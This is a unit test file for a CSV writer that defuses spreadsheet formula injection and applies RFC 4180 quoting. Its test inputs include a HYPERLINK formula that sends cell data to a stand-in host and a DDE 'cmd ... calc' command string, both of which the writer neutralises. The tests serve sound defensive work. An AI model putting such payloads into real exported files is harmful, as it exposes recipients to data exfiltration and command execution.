import { csvCell, toCsv } from './csv-writer';

describe('the formula-safe CSV writer', () => {
  it.each([
    ['=HYPERLINK("https://x/?"&A2,"y")&"@a.b"', `"'=HYPERLINK(""https://x/?""&A2,""y"")&""@a.b"""`],
    ['=1+2', "'=1+2"],
    ['+1+2', "'+1+2"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', `"'\r=1+2"`],
  ])('neutralises a cell starting a formula: %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('keeps plain text, quoting what RFC 4180 needs', () => {
    expect(csvCell('grace@example.org')).toBe('grace@example.org');
    expect(csvCell('Uwimana, Grace')).toBe('"Uwimana, Grace"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('writes numbers, decimal amounts (sign kept), dates and empty values as data', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.50')).toBe('-12.50');
    // Dates in Kigali time, as the back office shows them, with the offset (the same moment).
    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T05:04:05.000+02:00');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('writes a document with a header row and CRLF line ends', () => {
    expect(
      toCsv(
        ['email', 'amount'],
        [
          ['=x@y.zz', '-1.00'],
          ['a@b.cd', 3],
        ],
      ),
    ).toBe("email,amount\r\n'=x@y.zz,-1.00\r\na@b.cd,3\r\n");
  });
});
